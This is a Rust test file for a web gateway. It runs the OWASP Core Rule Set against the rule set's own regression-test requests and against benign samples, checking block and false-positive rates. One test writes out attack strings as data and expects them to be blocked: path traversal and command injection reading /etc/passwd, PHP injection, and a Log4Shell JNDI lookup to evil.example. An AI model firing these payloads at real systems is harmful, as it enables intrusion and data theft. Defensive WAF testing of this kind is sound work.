//! The OWASP Core Rule Set as it is published, held against the requests of its own regression tests.
//!
//! Debian's package `modsecurity-crs` has the rules, its source package has the tests; `cargo xtask test` brings both.

use std::path::{Path, PathBuf};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use gatewright_tests::{Origin, RawClient, TestGateway};
use serde_yaml_ng::Value;

use super::{answering, gateway, get, refused};
use crate::vectors::data;

const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const RULES: &str = "/usr/share/modsecurity-crs/rules";

/// The keys of a `waf` with the rule set at level 1; none where it is not installed.
fn keys() -> Option<String> {
    if Path::new(RULES).is_dir() {
        return Some(format!(", rules = [{SETUP:?}, {RULES:?}], paranoia = 1"));
    }
    println!("skipped: {RULES} is not there; the package modsecurity-crs has it");
    None
}

#[test]
fn the_core_rule_set_is_run_as_it_is_published() {
    let Some(keys) = keys() else { return };
    let origin = Origin::saying("ok");
    let gateway = gateway(&origin, &keys);
    let fields = [("user-agent", "curl/8.5.0"), ("accept", "*/*")];
    for attack in [
        "/a?q=../../../../etc/passwd",
        "/a?q=%3Bcat+/etc/passwd",
        "/a?q=%3C%3Fphp+phpinfo%28%29%3B",
        "/a?q=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        assert_eq!(get(&gateway, attack, &fields).status, 403, "{attack}");
    }
    assert_eq!(get(&gateway, "/a?q=hello+world", &fields).status, 200);
    let records = gateway.wait_for_records(5);
    let found = records[0]["waf"].as_str().unwrap();
    assert!(found.contains("rules at query:q (930120 +5)"), "{found}");
}

/// ModSecurity itself stops 72 of 100 of these requests at level 1: the others are about rules of higher levels, about
/// responses, or about what is seen of a request only by reading on after it.
#[test]
fn of_the_rule_sets_own_attacks_as_many_are_stopped_as_by_others() {
    let (Some(keys), Some(folder)) = (keys(), regression_tests()) else {
        return;
    };
    let gateway = answering(&keys);
    let mut passed = Vec::new();
    let attacks = attacks(&folder);
    for (title, request) in &attacks {
        if status(&gateway, request) == Some(200) {
            passed.push(title.as_str());
        }
    }
    let share = 1.0 - passed.len() as f64 / attacks.len() as f64;
    println!(
        "{} attacks, {:.1} % stopped; passed: {}",
        attacks.len(),
        share * 100.0,
        passed.join(" ")
    );
    assert!(attacks.len() > 2_000, "{}", attacks.len());
    assert!(share >= 0.8, "{share}");
}

/// The published rules themselves take six of the 209 for attacks (941130, 941160, 932100, and 942190 three times), more than
/// the 2 of 100 that the gateway's own rules are held to.
#[test]
fn hardly_anything_harmless_is_stopped_by_rules() {
    let (Some(keys), Some(folder)) = (keys(), data("libinjection")) else {
        return;
    };
    let text = String::from_utf8_lossy(&std::fs::read(folder.join("benign.txt")).unwrap()).into_owned();
    for (keys, most) in [(keys.as_str(), 0.03), (", rules = [\"builtin\"]", 0.02)] {
        let gateway = answering(keys);
        let mut client = RawClient::connect(gateway.addr("public"));
        let (refused, all) = refused(&mut client, &text);
        println!("{refused} of {all} with{keys}");
        assert!(refused as f64 / all as f64 <= most, "{refused} of {all} with{keys}");
    }
}

/// The folder of the regression tests; none where it is not installed.
fn regression_tests() -> Option<PathBuf> {
    let folder = Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../target/tools/modsecurity-crs/tests"
    ));
    if folder.is_dir() {
        return Some(folder.to_owned());
    }
    println!(
        "skipped: {} is not there; `cargo xtask test` makes it",
        folder.display()
    );
    None
}

/// The status of the first response to these bytes; none where the connection is closed without one.
fn status(gateway: &TestGateway, request: &[u8]) -> Option<u16> {
    let mut client = RawClient::connect(gateway.addr("public"));
    client.send(request).finish_sending();
    let response = match request.starts_with(b"HEAD ") {
        true => client.try_read_response_to_head(),
        false => client.try_read_response(),
    };
    response.ok().map(|response| response.status)
}

/// Title and bytes of each request that a rule is said to match.
fn attacks(folder: &Path) -> Vec<(String, Vec<u8>)> {
    let mut attacks = Vec::new();
    for file in files(folder) {
        let text = std::fs::read_to_string(&file).unwrap();
        let tests: Value = serde_yaml_ng::from_str(&text).unwrap_or_else(|error| panic!("{}: {error}", file.display()));
        for test in tests["tests"].as_sequence().unwrap() {
            let stages = test["stages"].as_sequence().unwrap().iter();
            let stages = stages.map(|stage| &stage["stage"]);
            for stage in stages.filter(|stage| !stage["output"]["log_contains"].is_null()) {
                attacks.push((
                    test["test_title"].as_str().unwrap_or_default().to_owned(),
                    bytes(&stage["input"]),
                ));
            }
        }
    }
    attacks
}

fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = |folder: &Path| -> Vec<PathBuf> {
        let mut paths: Vec<_> = std::fs::read_dir(folder)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .collect();
        paths.sort();
        paths
    };
    let folders = entries(folder).into_iter().filter(|path| path.is_dir());
    let files = folders.flat_map(|folder| entries(&folder));
    files
        .filter(|file| file.extension().is_some_and(|extension| extension == "yaml"))
        .collect()
}

/// A request as the tests' own runner sends it: with a length, and as a form, where the test does not say otherwise.
fn bytes(input: &Value) -> Vec<u8> {
    if let Some(raw) = input["raw_request"].as_str() {
        return raw.as_bytes().to_vec();
    }
    if let Some(encoded) = input["encoded_request"].as_str() {
        return STANDARD.decode(encoded).unwrap();
    }
    let word = |key: &str, or: &str| input[key].as_str().unwrap_or(or).to_owned();
    let data = match &input["data"] {
        Value::Null => String::new(),
        Value::Sequence(lines) => lines.iter().map(scalar).collect::<Vec<_>>().join("\r\n"),
        other => scalar(other),
    };
    let mut head = format!(
        "{} {} {}\r\n",
        word("method", "GET"),
        word("uri", "/"),
        word("version", "HTTP/1.1")
    );
    let is_magic = !input["stop_magic"].as_bool().unwrap_or(false);
    let fields = input["headers"].as_mapping().into_iter().flatten();
    let fields: Vec<_> = fields.map(|(name, value)| (scalar(name), scalar(value))).collect();
    let has = |wanted: &str| fields.iter().any(|(name, _)| name.eq_ignore_ascii_case(wanted));
    for (name, value) in &fields {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    if is_magic && !data.is_empty() && !has("content-type") {
        head.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
    }
    if is_magic && !data.is_empty() && !has("content-length") {
        head.push_str(&format!("Content-Length: {}\r\n", data.len()));
    }
    [head.as_bytes(), b"\r\n", data.as_bytes()].concat()
}

fn scalar(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        Value::Null => String::new(),
        other => serde_yaml_ng::to_string(other).unwrap().trim_end().to_owned(),
    }
}
